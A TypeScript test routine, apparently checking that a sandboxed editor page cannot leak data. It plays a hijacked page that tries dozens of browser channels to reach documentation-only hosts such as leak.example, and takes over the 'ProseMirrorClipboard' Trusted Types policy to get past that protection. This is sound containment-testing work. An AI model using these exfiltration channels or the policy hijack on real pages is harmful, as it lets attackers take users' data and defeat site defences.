/** Addresses that nobody has: for documentation (RFC 5737, RFC 3849, RFC 2606). */
export const outside = { v4: '192.0.2.1', v6: '[2001:db8::1]', name: 'leak.example' }

interface TrustedTypes {
  createPolicy(
    name: string,
    rules: object,
  ): Readonly<Record<'createHTML' | 'createScript' | 'createScriptURL', (text: string) => string>>
  getAttributeType(tag: string, attribute: string, namespace: string): string | null
}

/**
 * Every way out that a page knows, tried by a script that has taken the page over. Runs in the page. Gives what each way answered
 * at once; what counts is what leaves the computer.
 */
export async function tryToEscape({ v4, v6, name }: typeof outside): Promise<Readonly<Record<string, string>>> {
  const answers: Record<string, string> = {}
  const hosts = [v4, v6, name]
  const attempt = async (way: string, act: () => unknown): Promise<void> => {
    const patience = new Promise((resolve) => setTimeout(resolve, 1500, 'no answer'))
    try {
      answers[way] = String(await Promise.race([act(), patience]))
    } catch (error) {
      answers[way] = `refused: ${(error as Error).name}`
    }
  }
  // Whoever has taken the page over takes the policy that the editor makes at its first paste, and so passes all trusted types.
  const { trustedTypes } = window as unknown as { readonly trustedTypes: TrustedTypes }
  const pass = (text: string): string => text
  const taken = trustedTypes.createPolicy('ProseMirrorClipboard', {
    createHTML: pass,
    createScript: pass,
    createScriptURL: pass,
  })
  const set = (element: Element, key: string, value: string): void => {
    const type = trustedTypes.getAttributeType(element.localName, key, element.namespaceURI ?? '')
    const html = type === 'TrustedHTML' ? taken.createHTML(value) : value
    element.setAttribute(key, type === 'TrustedScriptURL' ? taken.createScriptURL(value) : html)
  }
  const put = (tag: string, attributes: Readonly<Record<string, string>>, text = ''): HTMLElement => {
    const element = document.createElement(tag)
    for (const [key, value] of Object.entries(attributes)) set(element, key, value)
    if (element instanceof HTMLScriptElement) element.text = taken.createScript(text)
    else element.append(text)
    ;(['link', 'meta', 'style', 'base'].includes(tag) ? document.head : document.body).append(element)
    return element
  }

  // WebRTC: look-up of the own address, relays over UDP, TCP and TLS, and a partner at an address outside.
  const iceServers = hosts.flatMap((host) =>
    [
      `stun:${host}:3478`,
      `turn:${host}:3478?transport=udp`,
      `turn:${host}:3478?transport=tcp`,
      `turns:${host}:5349`,
    ].map((urls) => ({ urls, username: 'u', credential: 'c' })),
  )
  const call = async (connection: RTCPeerConnection): Promise<string> => {
    connection.createDataChannel('out')
    const offer = await connection.createOffer()
    await connection.setLocalDescription(offer)
    const answer = (offer.sdp ?? '').replace('a=setup:actpass', 'a=setup:active')
    await connection.setRemoteDescription({ type: 'answer', sdp: answer })
    for (const host of [v4, v6.slice(1, -1)])
      for (const candidate of [
        `1 1 udp 2122260223 ${host} 9999 typ host`,
        `2 1 tcp 1518280447 ${host} 443 typ host tcptype passive`,
      ])
        await connection.addIceCandidate({ candidate: `candidate:${candidate}`, sdpMid: '0', sdpMLineIndex: 0 })
    return 'called'
  }
  await attempt('webrtc', () => call(new RTCPeerConnection({ iceServers, iceCandidatePoolSize: 4 })))
  await attempt('webrtc relayed', () => call(new RTCPeerConnection({ iceServers, iceTransportPolicy: 'relay' })))
  await attempt('webrtc in a frame', () => {
    const frame = put('iframe', {}) as HTMLIFrameElement
    const { RTCPeerConnection: Fresh } = frame.contentWindow as unknown as typeof globalThis
    return call(new Fresh({ iceServers }))
  })

  for (const host of hosts) {
    const http = `http://${host}`
    const https = `https://${host}`
    for (const rel of [
      'preconnect',
      'dns-prefetch',
      'prefetch',
      'prerender',
      'preload',
      'modulepreload',
      'stylesheet',
      'icon',
      'manifest',
      'alternate stylesheet',
      'expect',
      'compression-dictionary',
    ])
      for (const base of [http, https])
        put('link', { rel, href: `${base}/${rel}`, as: 'script', crossorigin: 'anonymous' })
    put('link', { rel: 'preload', as: 'image', imagesrcset: `${https}/set 1x`, href: `${https}/set` })
    put('meta', { 'http-equiv': 'Link', content: `<${https}>; rel=preconnect` })
    put('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' })
    put('meta', { 'http-equiv': 'Content-Security-Policy', content: `img-src 'none'; report-uri ${https}/report` })
    put('base', { href: `${https}/` })
    put('a', { href: `${https}/named`, ping: `${https}/ping` }, 'named')

    await attempt(`fetch ${host}`, () => fetch(`${https}/fetch`, { mode: 'no-cors', keepalive: true }))
    await attempt(`fetchLater ${host}`, () =>
      (window as unknown as { fetchLater(url: string, options: object): unknown }).fetchLater(`${https}/later`, {
        activateAfter: 0,
      }),
    )
    await attempt(`beacon ${host}`, () => navigator.sendBeacon(`${https}/beacon`, 'x'))
    await attempt(
      `websocket ${host}`,
      () => new Promise((resolve) => (new WebSocket(`ws://${host}/`).onerror = () => resolve('error'))),
    )
    await attempt(`secure websocket ${host}`, () => new WebSocket(`wss://${host}/`).readyState)
    await attempt(
      `websocket stream ${host}`,
      () =>
        new (window as unknown as { WebSocketStream: new (url: string) => { opened: unknown } }).WebSocketStream(
          `wss://${host}/`,
        ).opened,
    )
    await attempt(`webtransport ${host}`, () => new WebTransport(`https://${host}:443/`).ready)
    await attempt(`event source ${host}`, () => new EventSource(`${https}/events`).readyState)
    await attempt(`request ${host}`, () => {
      const request = new XMLHttpRequest()
      request.open('GET', `${http}/xhr`)
      request.send()
    })

    put(
      'style',
      {},
      `@import "${https}/import.css"; @font-face { font-family: out; src: url(${https}/font.woff2) } body { font-family: out; background: url(${http}/css.png); cursor: url(${https}/cursor.cur), auto }`,
    )
    await attempt(`style ${host}`, () => {
      document.body.style.setProperty('background-image', `url(${http}/style.png)`)
      document.body.style.setProperty('mask', `url(${https}/mask.svg#m)`)
    })
    await attempt(`sheet ${host}`, () => {
      const sheet = new CSSStyleSheet()
      sheet.replaceSync(
        `@font-face { font-family: far; src: url(${https}/far.woff2) } h1 { font-family: far; list-style: url(${http}/list.png) }`,
      )
      document.adoptedStyleSheets = [sheet]
    })
    await attempt(`font ${host}`, () => new FontFace('f', `url(${https}/face.woff2)`).load())
    for (const [tag, attributes] of [
      ['img', { src: `${http}/img.png`, srcset: `${https}/set.png 2x`, attributionsrc: `${https}/attribution` }],
      ['iframe', { src: `${https}/frame` }],
      ['iframe', { srcdoc: `<link rel=preconnect href=${https}><img src=${https}/srcdoc>` }],
      ['iframe', { src: `data:text/html,<img src=${https}/data><link rel=preconnect href=${https}>` }],
      ['object', { data: `${https}/object` }],
      ['embed', { src: `${https}/embed` }],
      ['video', { src: `${https}/video.mp4`, poster: `${https}/poster.png`, autoplay: '' }],
      ['audio', { src: `${https}/audio.mp3`, preload: 'auto' }],
      ['input', { type: 'image', src: `${https}/input.png` }],
      ['script', { src: `${https}/script.js` }],
      ['portal', { src: `${https}/portal` }],
      ['fencedframe', { src: `${https}/fenced` }],
    ] as const)
      put(tag, attributes)
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
    for (const tag of ['image', 'use', 'feImage', 'script']) {
      const part = document.createElementNS(svg.namespaceURI ?? '', tag)
      set(part, 'href', `${https}/svg.svg#a`)
      svg.append(part)
    }
    document.body.append(svg)
    put(
      'script',
      { type: 'speculationrules' },
      JSON.stringify({ prefetch: [{ urls: [`${https}/spec`] }], prerender: [{ urls: [`${https}/pre`] }] }),
    )
    await attempt(`reporting ${host}`, () => new ReportingObserver(() => undefined, { buffered: true }).observe())

    await attempt(`worker ${host}`, () => new Worker(taken.createScriptURL(`${https}/worker.js`)))
    await attempt(
      `worker of its own ${host}`,
      () => new Worker(taken.createScriptURL(URL.createObjectURL(new Blob([`fetch('${https}/worker')`])))),
    )
    await attempt(`shared worker ${host}`, () => new SharedWorker(taken.createScriptURL(`${https}/shared.js`)))
    await attempt(`service worker ${host}`, () =>
      navigator.serviceWorker.register(taken.createScriptURL(`${https}/service.js`)),
    )
    await attempt(`import ${host}`, () => import(/* @vite-ignore */ `${https}/module.js`))
    await attempt(`worklet ${host}`, () => new AudioContext().audioWorklet.addModule(`${https}/worklet.js`))

    await attempt(`open ${host}`, () => window.open(`${https}/open`))
    await attempt(`open beside ${host}`, () => window.open(`${https}/beside`, '_blank', 'noopener'))
    await attempt(`form ${host}`, () => {
      const form = put('form', { action: `${https}/form`, method: 'post', target: '_blank' }) as HTMLFormElement
      form.submit()
    })
    await attempt(`download ${host}`, () =>
      put('a', { href: `${https}/file.bin`, download: 'file.bin' }, 'download').click(),
    )
    await attempt(`blank ${host}`, () => put('a', { href: `${https}/blank`, target: '_blank' }, 'blank').click())
    await attempt(`mail ${host}`, () => put('a', { href: `mailto:x@${host}?body=x` }, 'mail').click())
    await attempt(`payment ${host}`, () =>
      new PaymentRequest([{ supportedMethods: `${https}/pay` }], {
        total: { label: 't', amount: { currency: 'EUR', value: '1' } },
      }).canMakePayment(),
    )
    await attempt(`sign in ${host}`, () =>
      navigator.credentials.get({
        identity: { providers: [{ configURL: `${https}/fed.json`, clientId: 'c' }] },
      } as object),
    )
    await attempt(
      `refresh ${host}`,
      () => void put('meta', { 'http-equiv': 'refresh', content: `0; url=${https}/refresh` }),
    )
    await attempt(`location ${host}`, () => {
      location.href = `${https}/location`
    })
  }

  await attempt('own file kept', () => {
    const href = URL.createObjectURL(new Blob(['kept']))
    put('a', { href, download: 'kept.txt' }, 'kept').click()
  })
  await attempt('screen', () => navigator.mediaDevices.getDisplayMedia())
  await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true, audio: true }))
  await attempt(
    'place',
    () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
  )
  await attempt('clipboard', () => navigator.clipboard.readText())
  await attempt('notice', () => Notification.requestPermission())
  await attempt('sync', async () => (await navigator.serviceWorker.getRegistrations()).length)
  return answers
}
